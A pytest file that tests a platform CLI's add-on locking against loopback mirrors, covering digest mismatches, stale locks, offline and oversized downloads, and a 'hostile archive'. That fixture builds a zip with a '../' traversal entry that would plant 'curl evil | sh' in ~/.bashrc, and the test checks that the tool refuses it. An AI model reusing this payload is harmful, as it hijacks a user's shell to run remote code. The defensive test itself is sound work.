"""`genplat addons lock` and the build's add-on CRDs, against loopback servers standing in for upstream.

An HTTPS release server (github.com, mirrored) serves Knative Serving's pinned CRDs as one release
manifest; the Go module proxy is the session's loopback mirror over the pinned module zips. Each failure
(a digest that differs from the lock, a hostile archive, an oversized download, a cold cache offline) is
one line, a non-zero exit, and nothing written: no lock, no cache entry, no out/.
"""

from __future__ import annotations

import dataclasses
import hashlib
import io
import json
import os
import typing as t
import zipfile
from pathlib import Path

import pytest

from tests.addon_servers import FileServer, go_proxy_files, go_proxy_path, self_signed
from tests.upstream_parts import crd_files

RELEASE_PATH = "/knative/serving/releases/download/knative-v1.20.0/serving-crds.yaml"
RELEASE_URL = "https://github.com" + RELEASE_PATH

PLATFORM = """\
apiVersion: genplat.dev/v1alpha1
kind: Platform
metadata:
  name: mini
spec:
  registry: registry.example.com/platform
  kubernetesVersion: "1.33"
  addons:
    # Knative's own release manifest (mirrored to loopback in these tests).
    - name: knative-serving
      version: knative-v1.20.0
      source: {url: "https://github.com/knative/serving/releases/download/{version}/serving-crds.yaml"}
  environments:
    - name: dev
      clusters:
        - name: dev-1
          provider: existing
          addons: [knative-serving]
  tiers:
    small:
      quota: {cpu: "2", memory: 2Gi, pods: 10}
      container:
        defaultRequest: {cpu: 100m, memory: 128Mi}
        default: {cpu: 200m, memory: 256Mi}
        max: {cpu: "1", memory: 1Gi}
      maxReplicas: 3
  policies:
    allowedRegistries: [registry.example.com]
"""

TENANT = """\
apiVersion: genplat.dev/v1alpha1
kind: Tenant
metadata:
  name: shop
spec:
  tier: small
  environments:
    - name: dev
  services:
    - name: web
      image: registry.example.com/shop/web:1.0.0
      resources:
        requests: {cpu: 100m, memory: 128Mi}
        limits: {cpu: 200m, memory: 256Mi}
"""


def release_manifest() -> bytes:
    """What a release page serves: the pinned CRDs in one stream, beside objects that are no CRDs."""
    docs = [b"apiVersion: v1\nkind: Namespace\nmetadata:\n  name: knative-serving\n"]
    docs += [f.read_bytes() for f in crd_files("knative-serving")]
    return b"---\n".join(d if d.endswith(b"\n") else d + b"\n" for d in docs)


@dataclasses.dataclass
class Upstream:
    server: FileServer
    ca: Path
    body: bytes

    @property
    def mirror(self) -> str:
        return f"github.com={self.server.url}"


@pytest.fixture(scope="module")
def upstream(tmp_path_factory: pytest.TempPathFactory) -> t.Iterator[Upstream]:
    work = tmp_path_factory.mktemp("releases")
    cert, key = self_signed(work)
    body = release_manifest()
    server = FileServer({RELEASE_PATH: body}, tls=(cert, key))
    yield Upstream(server, cert, body)
    server.stop()


@pytest.fixture(autouse=True)
def _fresh_behaviour(upstream: Upstream) -> None:
    upstream.server.behaviour = type(upstream.server.behaviour)()


@pytest.fixture
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "cache"
    monkeypatch.setenv("GENPLAT_CACHE_DIR", str(path))
    return path


def project(root: Path, platform: str = PLATFORM, tenants: bool = True) -> Path:
    (root / "blueprints" / "tenants").mkdir(parents=True)
    (root / "blueprints" / "platform.yaml").write_text(platform)
    if tenants:
        (root / "blueprints" / "tenants" / "shop.yaml").write_text(TENANT)
    return root


def snapshot(root: Path) -> dict[str, str]:
    """Every file under ``root`` with its sha256 (to prove nothing changed)."""
    if not root.exists():
        return {}
    return {
        p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in root.rglob("*")
        if p.is_file()
    }


def one_error_line(stderr: str) -> str:
    errors = [line for line in stderr.splitlines() if line.startswith("genplat: error:")]
    assert len(errors) == 1, stderr
    return errors[0]


def lock(cli: t.Any, root: Path, up: Upstream, *extra: str) -> t.Any:
    return cli("addons", "lock", "-C", str(root), "--mirror", up.mirror, "--ca-file", str(up.ca), *extra)


def test_lock_records_the_release_and_build_checks_against_it(
    genplat_cli: t.Any, upstream: Upstream, tmp_path: Path, cache: Path
) -> None:
    root = project(tmp_path / "p")
    res = lock(genplat_cli, root, upstream)
    assert res.code == 0, res.stderr
    assert "locked knative-serving knative-v1.20.0: 1 CRD file(s), 7 kind(s), for dev/dev-1" in res.stderr
    doc = json.loads((root / "blueprints" / "addons.lock.json").read_text())
    (entry,) = doc["addons"]
    # The upstream URL and the digest of its bytes: a mirror changes where, never what.
    assert entry["fetched"] == [{"ref": RELEASE_URL, "digest": "sha256:" + hashlib.sha256(upstream.body).hexdigest()}]
    assert entry["crds"] == [{"path": "serving-crds.yaml", "digest": entry["fetched"][0]["digest"]}]
    assert entry["serves"]["Service.serving.knative.dev"] == ["v1"] and entry["clusters"] == ["dev/dev-1"]
    assert (cache / "addons" / "sha256").is_dir()
    # The build reads the CRDs from the cache (no request), and the Knative Service is checked.
    seen = len(upstream.server.seen)
    res = genplat_cli("build", "-C", str(root), "--format", "json")
    assert res.code == 0, res.stderr
    assert json.loads(res.stdout)["diagnostics"] == [] and len(upstream.server.seen) == seen
    # Locking again changes nothing and fetches nothing.
    res = lock(genplat_cli, root, upstream, "--check")
    assert res.code == 0 and "is current" in res.stderr and len(upstream.server.seen) == seen


def test_a_field_the_locked_release_lacks_is_an_error_at_the_blueprint_line(
    genplat_cli: t.Any, upstream: Upstream, tmp_path: Path, cache: Path
) -> None:
    root = project(tmp_path / "p")
    assert lock(genplat_cli, root, upstream).code == 0
    templates = root / "blueprints" / "templates" / "tenant"
    templates.mkdir(parents=True)
    (templates / "ksvc.yaml.j2").write_text(
        "apiVersion: serving.knative.dev/v1\nkind: Service\nmetadata:\n  name: extra\n  namespace: {{ namespace }}\n"
        "spec:\n  template:\n    spec:\n      containers: [{image: registry.example.com/x:1}]\n      replicas: 2\n"
    )
    res = genplat_cli("build", "-C", str(root))
    assert res.code == 1
    assert "ksvc.yaml.j2:1:" in res.stdout and "schema-unknown-field" in res.stdout
    assert "'replicas'" in res.stdout and "(cluster dev-1: knative-serving knative-v1.20.0)" in res.stdout


def test_a_stale_lock_stops_validate_and_build(genplat_cli: t.Any, upstream: Upstream, tmp_path: Path) -> None:
    root = project(tmp_path / "p")
    assert lock(genplat_cli, root, upstream).code == 0
    platform = root / "blueprints" / "platform.yaml"
    platform.write_text(platform.read_text().replace("version: knative-v1.20.0", "version: knative-v1.21.0"))
    res = genplat_cli("validate", str(root / "blueprints"))
    assert res.code == 1 and "addon-not-locked" in res.stdout and "knative-v1.21.0" in res.stdout
    assert genplat_cli("build", "-C", str(root)).code == 1
    res = lock(genplat_cli, root, upstream, "--check")
    assert res.code == 1 and "would lock knative-serving knative-v1.21.0" in res.stderr
    assert "would drop knative-serving knative-v1.20.0" in res.stderr


def test_digest_mismatch_is_one_line_and_caches_nothing(
    genplat_cli: t.Any, upstream: Upstream, tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = project(tmp_path / "p")
    assert lock(genplat_cli, root, upstream).code == 0
    assert genplat_cli("build", "-C", str(root)).code == 0
    out_before = snapshot(root / "out")
    # Upstream republishes the release with other bytes; a machine with a cold cache builds.
    upstream.server.behaviour.replace[RELEASE_PATH] = upstream.body.replace(b"knative-serving", b"knative-servinG", 1)
    cold = tmp_path / "cold-cache"
    monkeypatch.setenv("GENPLAT_CACHE_DIR", str(cold))
    monkeypatch.setenv("GENPLAT_MIRRORS", f"{os.environ.get('GENPLAT_MIRRORS', '')},{upstream.mirror}")
    monkeypatch.setenv("GENPLAT_CA_FILE", str(upstream.ca))
    (root / "blueprints" / "tenants" / "shop.yaml").write_text(TENANT.replace("1.0.0", "1.0.1"))
    res = genplat_cli("build", "-C", str(root))
    assert res.code == 3
    line = one_error_line(res.stderr)
    assert RELEASE_URL in line and "the lock records sha256:" in line and "nothing was cached" in line
    assert snapshot(cold) == {} and snapshot(root / "out") == out_before


def test_offline_with_a_cold_cache_names_the_addon(
    genplat_cli: t.Any, upstream: Upstream, tmp_path: Path, cache: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = project(tmp_path / "p")
    assert lock(genplat_cli, root, upstream).code == 0
    cold = tmp_path / "cold-cache"
    monkeypatch.setenv("GENPLAT_CACHE_DIR", str(cold))
    seen = len(upstream.server.seen)
    res = genplat_cli("build", "-C", str(root), "--offline")
    assert res.code == 3
    line = one_error_line(res.stderr)
    assert "add-on knative-serving knative-v1.20.0 is not in the cache" in line and "--offline" in line
    assert snapshot(cold) == {} and not (root / "out").exists() and len(upstream.server.seen) == seen
    res = lock(genplat_cli, root, upstream, "--offline")
    assert res.code == 3 and "--offline" in one_error_line(res.stderr)


def test_an_oversized_download_is_refused(genplat_cli: t.Any, upstream: Upstream, tmp_path: Path, cache: Path) -> None:
    root = project(tmp_path / "p")
    res = lock(genplat_cli, root, upstream, "--max-size", "4096")
    assert res.code == 3
    line = one_error_line(res.stderr)
    assert "over the limit of 4,096" in line and "knative-serving" in line
    # A server that sends no length and never stops is cut off at the bound too.
    upstream.server.behaviour.endless.add(RELEASE_PATH)
    res = lock(genplat_cli, root, upstream, "--max-size", "100000")
    assert res.code == 3 and "sent more than 100,000 bytes" in one_error_line(res.stderr)
    assert not (root / "blueprints" / "addons.lock.json").exists() and snapshot(cache) == {}


def hostile_zip() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("example.com/acme/operator@v1.0.0/config/crds/widgets.yaml", release_manifest())
        zf.writestr("example.com/acme/operator@v1.0.0/../../../home/user/.bashrc", b"curl evil | sh\n")
    return buf.getvalue()


def test_a_hostile_archive_is_refused(genplat_cli: t.Any, tmp_path: Path, cache: Path) -> None:
    platform = PLATFORM.replace(
        "  environments:",
        "    - name: acme-operator\n      version: v1.0.0\n"
        "      source: {goModule: example.com/acme/operator, paths: [config/crds/*.yaml]}\n  environments:",
    ).replace("addons: [knative-serving]", "addons: [acme-operator]")
    root = project(tmp_path / "p", platform, tenants=False)
    files: dict[str, bytes | Path] = dict(go_proxy_files())
    files[go_proxy_path("example.com/acme/operator", "v1.0.0")] = hostile_zip()
    server = FileServer(files)
    try:
        res = genplat_cli("addons", "lock", "-C", str(root), "--mirror", f"proxy.golang.org={server.url}")
    finally:
        server.stop()
    assert res.code == 3
    line = one_error_line(res.stderr)
    assert "add-on acme-operator v1.0.0: hostile archive" in line and "'..' component" in line
    assert not (root / "blueprints" / "addons.lock.json").exists() and snapshot(cache) == {}


def test_a_local_folder_changed_after_locking_is_refused(genplat_cli: t.Any, tmp_path: Path, cache: Path) -> None:
    vendored = tmp_path / "p" / "blueprints" / "addons" / "serving"
    platform = PLATFORM.replace(
        'source: {url: "https://github.com/knative/serving/releases/download/{version}/serving-crds.yaml"}',
        "source: {local: addons/serving}",
    )
    root = project(tmp_path / "p", platform)
    vendored.mkdir(parents=True)
    for f in crd_files("knative-serving"):
        (vendored / f.name).write_bytes(f.read_bytes())
    res = genplat_cli("addons", "lock", "-C", str(root))
    assert res.code == 0, res.stderr
    assert genplat_cli("build", "-C", str(root)).code == 0
    service = vendored / "service.yaml"
    service.write_text(service.read_text() + "\n# edited by hand\n")
    res = genplat_cli("build", "-C", str(root), "--full")
    # The team's own edit, not a download gone wrong: an out-of-date lock, exit 1 as for out/.
    assert res.code == 1 and "local folder addons/serving changed since it was locked" in one_error_line(res.stderr)
    # Locking records the folder as it is now (the team's own files); the build then passes.
    assert genplat_cli("addons", "lock", "-C", str(root)).code == 0
    assert genplat_cli("build", "-C", str(root), "--full").code == 0


def test_a_mirror_that_is_down_fails_fast_with_one_line(genplat_cli: t.Any, tmp_path: Path, cache: Path) -> None:
    from tests.registry import free_port

    root = project(tmp_path / "p")
    res = genplat_cli("addons", "lock", "-C", str(root), "--mirror", f"github.com=https://127.0.0.1:{free_port()}")
    assert res.code == 3
    line = one_error_line(res.stderr)
    assert RELEASE_URL in line and "connection refused" in line and "5 attempts" in line
    assert not (root / "blueprints" / "addons.lock.json").exists() and snapshot(cache) == {}
